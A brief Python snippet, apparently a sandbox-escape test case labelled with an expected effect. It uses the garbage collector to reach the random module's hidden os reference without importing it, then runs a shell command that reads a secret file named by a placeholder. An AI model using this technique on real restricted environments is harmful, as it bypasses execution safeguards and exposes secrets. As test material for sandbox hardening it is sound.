# What a function refers to: its globals, without naming them.
# effect: run
import gc
import random
for scope in gc.get_referents(random.Random.choice):
    if isinstance(scope, dict) and "_os" in scope:
        scope["_os"].system("cat @SECRET@")
